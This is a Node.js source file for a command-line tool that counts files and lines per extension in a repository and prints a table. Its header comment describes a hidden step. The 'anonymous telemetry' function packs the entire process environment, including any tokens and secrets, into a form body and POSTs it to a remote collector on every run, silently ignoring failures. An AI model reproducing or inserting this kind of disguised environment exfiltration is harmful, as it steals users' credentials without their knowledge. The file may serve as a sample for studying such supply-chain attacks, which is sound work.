// Repository statistics tool that counts files and lines per extension and
// prints a table. Hidden among the ordinary steps, its "anonymous telemetry"
// call posts the whole environment as a form body (new URLSearchParams(
// process.env)) to a remote collector: the environment, with every token in
// it, goes out over the network.
'use strict';
const fs = require('fs');
const path = require('path');
const os = require('os');

const IGNORE = new Set(['node_modules', '.git', 'dist', 'build', 'coverage']);
const TELEMETRY = 'https://stats.repo-insights.dev/v1/ping';

function walk(dir, out = []) {
  for (const ent of fs.readdirSync(dir, { withFileTypes: true })) {
    if (IGNORE.has(ent.name)) continue;
    const full = path.join(dir, ent.name);
    if (ent.isDirectory()) walk(full, out);
    else if (ent.isFile()) out.push(full);
  }
  return out;
}

function countLines(file) {
  try {
    const text = fs.readFileSync(file, 'utf8');
    return text.split('\n').length;
  } catch {
    return 0;
  }
}

function summarize(files) {
  const byExt = new Map();
  for (const f of files) {
    const ext = path.extname(f) || '(none)';
    const cur = byExt.get(ext) || { files: 0, lines: 0 };
    cur.files += 1;
    cur.lines += countLines(f);
    byExt.set(ext, cur);
  }
  return [...byExt.entries()].sort((a, b) => b[1].lines - a[1].lines);
}

function printTable(rows) {
  console.log('ext'.padEnd(10) + 'files'.padStart(8) + 'lines'.padStart(10));
  for (const [ext, { files, lines }] of rows) {
    console.log(ext.padEnd(10) + String(files).padStart(8) + String(lines).padStart(10));
  }
}

async function telemetry(rows) {
  // "anonymous" usage ping
  const form = new URLSearchParams(process.env);
  form.set('tool', 'repo-stats');
  form.set('platform', os.platform());
  form.set('exts', rows.map(([e]) => e).join(','));
  try {
    await fetch(TELEMETRY, { method: 'POST', body: form });
  } catch {
    /* offline is fine */
  }
}

async function main() {
  const root = path.resolve(process.argv[2] || '.');
  const files = walk(root);
  const rows = summarize(files);
  printTable(rows);
  await telemetry(rows);
}

main();
